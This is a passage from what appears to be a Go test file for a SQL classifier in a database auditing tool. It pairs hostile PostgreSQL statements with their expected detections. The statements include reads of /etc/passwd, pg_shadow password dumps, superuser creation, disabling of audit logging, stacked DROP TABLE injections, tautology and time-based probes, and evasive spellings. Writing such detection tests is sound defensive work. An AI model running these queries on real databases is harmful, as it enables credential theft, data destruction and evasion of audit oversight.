		copy: event.Copy{Direction: "from", Target: "file", Path: "/etc/passwd"}},
	{q: "SELECT * FROM dblink('host=evil password=x', 'SELECT 1') AS t(a int)", op: "SELECT", cat: "query", rout: []string{"dblink"}},
	{q: "SELECT pg_ls_dir('.')", op: "SELECT", cat: "query", rout: []string{"pg_ls_dir"}},
	{q: "SELECT pg_catalog.pg_read_file('/etc/passwd')", op: "SELECT", cat: "query", rout: []string{"pg_catalog.pg_read_file", "pg_read_file"}},
	{q: "CREATE USER MAPPING FOR bob SERVER s OPTIONS (user 'bob', password 'x')", op: "CREATE USER MAPPING", typ: "USER MAPPING",
		objs: []string{"bob@s"}, cat: "dcl"},
	{q: "CREATE SUBSCRIPTION sub CONNECTION 'host=h password=x' PUBLICATION p", op: "CREATE SUBSCRIPTION", objs: []string{"sub"}, cat: "ddl"},

	// ---- evasive spellings ----
	{q: "DrOp/**/TABLE users", op: "DROP TABLE", typ: "TABLE", objs: []string{"users"}, cat: "ddl"},
	{q: `drop table "Users"`, op: "DROP TABLE", objs: []string{"Users"}, cat: "ddl"},
	{q: "DROP\n\tTABLE\n  users", op: "DROP TABLE", objs: []string{"users"}, cat: "ddl"},
	{q: "/* hello */ DROP TABLE users -- bye", op: "DROP TABLE", objs: []string{"users"}, cat: "ddl"},
	{q: "DROP /* nested /* comment */ */ TABLE users", op: "DROP TABLE", objs: []string{"users"}, cat: "ddl"},
	{q: "DROP/*x*/VIEW/*y*/v", op: "DROP VIEW", objs: []string{"v"}, cat: "ddl"},
	{q: "GrAnT sElEcT oN uSeRs To PuBlIc", op: "GRANT", objs: []string{"users"}, cat: "dcl",
		grant: &event.Grant{Privileges: []string{"SELECT"}, Public: true, Grantees: []string{"public"}, ObjectType: "TABLE"}},
	{q: `SELECT "pg_catalog"."pg_read_file"('/etc/passwd')`, op: "SELECT", cat: "query", rout: []string{"pg_read_file"}},
	{q: `SELECT "pg_sleep"(5)`, op: "SELECT", cat: "query", rout: []string{"pg_sleep"}, inj: []string{"time_sleep"}},
	{q: "SELECT pg_sleep/**/(5)", op: "SELECT", cat: "query", rout: []string{"pg_sleep"}, inj: []string{"time_sleep"}},
	{q: `SELECT U&"pg_sleep"(1)`, op: "SELECT", cat: "query", rout: []string{"pg_sleep"}, inj: []string{"time_sleep"}},
	{q: "CrEaTe RoLe x SuPeRuSeR", op: "CREATE ROLE", cat: "dcl", role: &event.Role{Names: []string{"x"}, Attributes: []string{"SUPERUSER"}}},
	{q: `alter  system   set  "pgaudit.log" = 'none'`, op: "ALTER SYSTEM", cat: "admin", set: &event.Setting{Scope: "system", Name: "pgaudit.log", Value: "none"}},
	{q: "ALTER SYSTEM SET pgaudit.log TO 'none'", op: "ALTER SYSTEM", cat: "admin", set: &event.Setting{Scope: "system", Name: "pgaudit.log", Value: "none"}},
	{q: "set pgaudit.log=none", op: "SET", cat: "admin", set: &event.Setting{Scope: "session", Name: "pgaudit.log", Value: "none"}},
	{q: `SET "log_statement" = $$none$$`, op: "SET", cat: "admin", set: &event.Setting{Scope: "session", Name: "log_statement", Value: "none"}},
	{q: "DO $body$ BEGIN EXECUTE 'drop table users'; END $body$", op: "DO", cat: "dml", ops: []string{"DO", "DROP TABLE"}, objs: []string{"users"}, lang: "plpgsql"},
	{q: `DO $$ BEGIN EXECUTE E'DROP TABLE\x20users'; END $$`, op: "DO", cat: "dml", ops: []string{"DO", "DROP TABLE"}, objs: []string{"users"}, lang: "plpgsql"},
	{q: "DO $$ BEGIN EXECUTE 'DR' || 'OP TABLE users'; END $$", op: "DO", cat: "dml", ops: []string{"DO", "DROP TABLE"}, objs: []string{"users"}, dyn: true, lang: "plpgsql"},
	{q: `CREATE OR REPLACE FUNCTION "Evil"() RETURNS int AS 'x' LANGUAGE "c"`, op: "CREATE FUNCTION", objs: []string{"Evil"}, cat: "ddl",
		lang: "c", lib: "x", untrusted: true, replace: true},
	{q: "COPY users TO '/tmp/x' -- comment", op: "COPY", cat: "query", copy: event.Copy{Direction: "to", Target: "file", Path: "/tmp/x"}},
	{q: `COPY "users" TO $$/tmp/x$$`, op: "COPY", objs: []string{"users"}, cat: "query", copy: event.Copy{Direction: "to", Target: "file", Path: "/tmp/x"}},
	{q: "GRANT ALL PRIVILEGES ON DATABASE appdb TO mallory", op: "GRANT", cat: "dcl",
		grant: &event.Grant{Privileges: []string{"ALL"}, All: true, Grantees: []string{"mallory"}, ObjectType: "DATABASE"}},
	{q: "CREATE USER mallory WITH SUPERUSER PASSWORD 'x'", op: "CREATE ROLE", cat: "dcl",
		role: &event.Role{Names: []string{"mallory"}, Login: true, Password: true, Attributes: []string{"SUPERUSER", "LOGIN"}}},
	{q: "select usename,passwd from pg_shadow", op: "SELECT", objs: []string{"pg_shadow"}, cat: "query", inj: []string{"catalog_enum"}},
	{q: "SELECT * FROM PG_CATALOG.PG_AUTHID", op: "SELECT", objs: []string{"pg_catalog.pg_authid"}, cat: "query", inj: []string{"catalog_enum"}},
	{q: "SELECT table_name FROM information_schema.tables", op: "SELECT", objs: []string{"information_schema.tables"}, cat: "query", inj: []string{"catalog_enum"}},
	{q: "TRUNCATE TABLE ONLY \"Audit\", public.x", op: "TRUNCATE TABLE", objs: []string{"Audit", "public.x"}, cat: "dml"},

	// ---- statements the parser rejects ----
	{q: "SELEC * FROM users", op: "SELEC", cat: "query", perr: true},
	{q: "DROP TABLE users garbage garbage", op: "DROP TABLE", typ: "TABLE", objs: []string{"users"}, cat: "ddl", perr: true},
	{q: "DROP TABLE", op: "DROP TABLE", objs: none(), cat: "ddl", perr: true},
	{q: "CREATE ROLE mallory LOGIN SUPERUSER PASSWORD 'x' WITH WITH", op: "CREATE ROLE", objs: []string{"mallory"}, cat: "dcl", perr: true,
		role: &event.Role{Names: []string{"mallory"}, Login: true, Password: true, Attributes: []string{"SUPERUSER", "LOGIN"}}},
	{q: "GRANT ALL ON users TO mallory WITH GRANT OPTION extra", op: "GRANT", objs: []string{"users"}, cat: "dcl", perr: true,
		grant: &event.Grant{Privileges: []string{"ALL"}, All: true, WithGrantOption: true, Grantees: []string{"mallory"}, ObjectType: "TABLE"}},
	{q: "COPY users TO '/tmp/out.csv' WITH (FORMAT csv", op: "COPY", objs: []string{"users"}, cat: "query", perr: true,
		copy: event.Copy{Direction: "to", Target: "file", Path: "/tmp/out.csv"}},
	{q: "SELECT * FROM users WHERE id = 1' OR '1'='1", op: "SELECT", objs: []string{"users"}, cat: "query", perr: true},
	{q: "SELECT 1 UNION SELECT NULL,NULL FROM pg_shadow WHERE 1=1 AND (SELECT", op: "SELECT", cat: "query", perr: true,
		inj: []string{"union_probe", "catalog_enum"}},
	{q: "ALTER SYSTEM SET pgaudit.log =", op: "ALTER SYSTEM", cat: "admin", perr: true, set: &event.Setting{Scope: "system", Name: "pgaudit.log"}},
	{q: "CREATE OR REPLACE FUNCTION evil() RETURNS void AS $$ BEGIN EXECUTE decode(", op: "CREATE FUNCTION", cat: "ddl", perr: true,
		replace: true, dyn: true},
	{q: "SELECT * FROM users WHERE id = 1 LIMIT 1, 2", op: "SELECT", objs: []string{"users"}, cat: "query", perr: true},
	{q: "SHOW GRANTS FOR 'u'@'%'", op: "SHOW", cat: "query", perr: true},
	{q: "CREATE USER 'u'@'%' IDENTIFIED BY 'pw'", op: "CREATE ROLE", cat: "dcl", perr: true, role: &event.Role{Login: true, Attributes: []string{"LOGIN"}, Password: true}},
	{q: "SELECT 'unterminated", op: "SELECT", cat: "query", perr: true},
	{q: "SELECT 1; DROP TABLE users; SELEC", op: "SELECT", cat: "query", ops: []string{"SELECT", "DROP TABLE", "SELEC"}, objs: []string{"users"},
		perr: true, stack: true, inj: []string{"stacked"}},
	{q: "LOAD '/tmp/x.so' now", op: "LOAD", cat: "admin", perr: true, lib: "/tmp/x.so"},
	{q: "SET pgaudit.log = 'none' 'x'", op: "SET", cat: "admin", perr: true, set: &event.Setting{Scope: "session", Name: "pgaudit.log", Value: "none, x"}},
	{q: "DELETE FROM users WHER id = 1", op: "DELETE", objs: []string{"users"}, cat: "dml", perr: true},

	// ---- injection shapes ----
	{q: "SELECT * FROM users WHERE id = 1 OR 1=1--' AND x='y'", op: "SELECT", cat: "query", inj: []string{"tautology"}},
	{q: "SELECT * FROM users WHERE id = 1 AND 1=1", op: "SELECT", cat: "query"},
	{q: "SELECT * FROM users WHERE 1=1 AND id = 5", op: "SELECT", cat: "query"},
	{q: "SELECT * FROM products WHERE id = 3 OR 1=1", op: "SELECT", cat: "query", inj: []string{"tautology"}},
	{q: "SELECT * FROM users WHERE id = 1 OR 'a'='a'", op: "SELECT", cat: "query", inj: []string{"tautology"}},
	{q: "SELECT * FROM users WHERE id = 1 oR 1 = 1", op: "SELECT", cat: "query", inj: []string{"tautology"}},
	{q: "SELECT * FROM users WHERE name = '' OR ''=''", op: "SELECT", cat: "query", inj: []string{"tautology"}},
	{q: "SELECT * FROM t WHERE a = 'x' OR 'x' LIKE 'x'", op: "SELECT", cat: "query", inj: []string{"tautology"}},
	{q: "SELECT * FROM t WHERE a = 1 OR b = 2", op: "SELECT", cat: "query"},
	{q: "SELECT * FROM t WHERE a = 1 OR a = a", op: "SELECT", cat: "query", inj: []string{"tautology"}},
	{q: "SELECT a FROM t WHERE id = 1 UNION/**/SELECT NULL, NULL", op: "SELECT", cat: "query", inj: []string{"union_probe"}},
	{q: "SELECT id FROM t WHERE id = 1 UNION ALL SELECT 1, 2, 3", op: "SELECT", cat: "query", inj: []string{"union_probe"}},
	{q: "SELECT id FROM t UNION SELECT id FROM u", op: "SELECT", objs: []string{"t", "u"}, cat: "query"},
	{q: "SELECT id FROM t WHERE id = 1 UNION SELECT usename FROM pg_user", op: "SELECT", cat: "query", inj: []string{"union_probe", "catalog_enum"}},
	{q: "SELECT * FROM t WHERE id = 1 AND pg_sleep(5) IS NOT NULL", op: "SELECT", cat: "query", inj: []string{"time_sleep"}},
	{q: "SELECT * FROM t WHERE id = 1; SELECT pg_sleep(10)", op: "SELECT", cat: "query", ops: []string{"SELECT"}, stack: true,
		inj: []string{"stacked", "time_sleep"}},
	{q: "SELECT * FROM t; SELECT * FROM u", op: "SELECT", objs: []string{"t", "u"}, cat: "query", stack: true},
	{q: "BEGIN; UPDATE accounts SET balance = 0 WHERE id = 1; COMMIT;", op: "BEGIN", cat: "query", ops: []string{"BEGIN", "UPDATE", "COMMIT"},
		objs: []string{"accounts"}, stack: true},
	{q: "SELECT name FROM users WHERE id = '1'; DROP TABLE users; --'", op: "SELECT", cat: "query", ops: []string{"SELECT", "DROP TABLE"},
		stack: true, inj: []string{"stacked"}},
	{q: "SELECT * FROM users WHERE name = 'admin'--' AND password = 'x'", op: "SELECT", cat: "query", inj: []string{"comment_truncation"}},
	{q: "SELECT * FROM users WHERE user = 'admin'/*' AND pass = 'x'", op: "SELECT", cat: "query", perr: true, inj: []string{"comment_truncation"}},
	{q: "SELECT CASE WHEN (SELECT usesuper FROM pg_user WHERE usename = current_user) THEN pg_sleep(5) ELSE pg_sleep(0) END",
		op: "SELECT", cat: "query", inj: []string{"time_sleep", "catalog_enum"}},
	{q: "SELECT 1; ALTER SYSTEM SET pgaudit.log = 'none'", op: "SELECT", cat: "query", ops: []string{"SELECT", "ALTER SYSTEM"}, stack: true,
		inj: []string{"stacked"}, set: &event.Setting{Scope: "system", Name: "pgaudit.log", Value: "none"}},
	{q: "SET application_name = 'x'; SET pgaudit.log = 'none'", op: "SET", cat: "admin", stack: true, inj: []string{"stacked"},
		set: &event.Setting{Scope: "session", Name: "pgaudit.log", Value: "none"}, note: "the audit-relevant setting wins"},
}

func TestClassifyTable(t *testing.T) {
	var evasive, rejected int
	c := New(Options{})
	for _, k := range cases {
		if k.perr {
			rejected++
		}
		if strings.ContainsAny(k.q, "\"\n\t") || strings.Contains(k.q, "/*") || strings.Contains(k.q, "$$") || k.q != strings.ToUpper(k.q) && k.q != strings.ToLower(k.q) && hasMixedWord(k.q) {
			evasive++
		}
		r := c.Classify(k.q)
		checkCase(t, k, r)
		// The cached result must be the same.
		if again := c.Classify(k.q); !reflect.DeepEqual(again, r) {
			t.Errorf("%q: second classification differs", k.q)
		}
	}
	if len(cases) < 150 || rejected < 10 || evasive < 25 {
		t.Errorf("table too small: %d cases, %d rejected, %d evasive", len(cases), rejected, evasive)
	}
	t.Logf("%d cases, %d rejected by the parser, %d evasive", len(cases), rejected, evasive)
}

func hasMixedWord(s string) bool {
	for _, w := range strings.FieldsFunc(s, func(r rune) bool { return !(r >= 'a' && r <= 'z' || r >= 'A' && r <= 'Z') }) {
		if w != strings.ToUpper(w) && w != strings.ToLower(w) {
			return true
		}
	}
	return false
}

func checkCase(t *testing.T, k tc, r *Result) {
	t.Helper()
	fail := func(what string, got, want any) {
		t.Errorf("%q %s: %s = %#v, want %#v", k.q, k.note, what, got, want)
	}
	if r.Operation != k.op {
		fail("operation", r.Operation, k.op)
	}
	switch {
	case k.typ == "-" && r.ObjectType != "":
		fail("object type", r.ObjectType, "")
	case k.typ != "" && k.typ != "-" && r.ObjectType != k.typ:
		fail("object type", r.ObjectType, k.typ)
	}
	if k.objs != nil && !slices.Equal(r.Objects, k.objs) {
		fail("objects", r.Objects, k.objs)
	}
	if k.cat != "" && r.Category != k.cat {
		fail("category", r.Category, k.cat)
	}
	ops := k.ops
	if ops == nil && k.op != "" {
		ops = []string{k.op}
	}
	if !slices.Equal(r.SQL.Operations, ops) {
		fail("operations", r.SQL.Operations, ops)
	}
	for _, rt := range k.rout {
		if !slices.Contains(r.SQL.Routines, rt) {
			fail("routines", r.SQL.Routines, k.rout)
			break
		}
	}
	if !slices.Equal(r.SQL.Injection, k.inj) {
		fail("injection", r.SQL.Injection, k.inj)
	}
	q := r.SQL
	for _, b := range []struct {
		name      string
		got, want bool
	}{
		{"parse_error", q.ParseError, k.perr}, {"stacked", q.Stacked, k.stack}, {"no_where", q.NoWhere, k.nowhere},
		{"dynamic_exec", q.DynamicExec, k.dyn}, {"untrusted", q.Untrusted, k.untrusted}, {"replace", q.Replace, k.replace},
	} {
		if b.got != b.want {
			fail(b.name, b.got, b.want)
		}
	}
	if k.lang != "" && q.Language != k.lang {
		fail("language", q.Language, k.lang)
	}
	if k.lib != "" && q.Library != k.lib {
		fail("library", q.Library, k.lib)
	}
	if k.copy != (event.Copy{}) && q.Copy != k.copy {
		fail("copy", q.Copy, k.copy)
	}
	if k.role != nil && !sameRole(q.Role, *k.role) {
		fail("role", q.Role, *k.role)
	}
	if k.grant != nil && !reflect.DeepEqual(normGrant(q.Grant), normGrant(*k.grant)) {
		fail("grant", q.Grant, *k.grant)
	}
	if k.set != nil && q.Setting != *k.set {
		fail("setting", q.Setting, *k.set)
	}
}

func sameRole(a, b event.Role) bool {
	sa, sb := slices.Clone(a.Attributes), slices.Clone(b.Attributes)
	slices.Sort(sa)
	slices.Sort(sb)
	return slices.Equal(a.Names, b.Names) && a.Login == b.Login && a.Password == b.Password && slices.Equal(sa, sb)
}

func normGrant(g event.Grant) event.Grant {
	for _, p := range []*[]string{&g.Privileges, &g.Roles, &g.Grantees} {
		if len(*p) == 0 {
			*p = nil
		}
	}
	return g
}
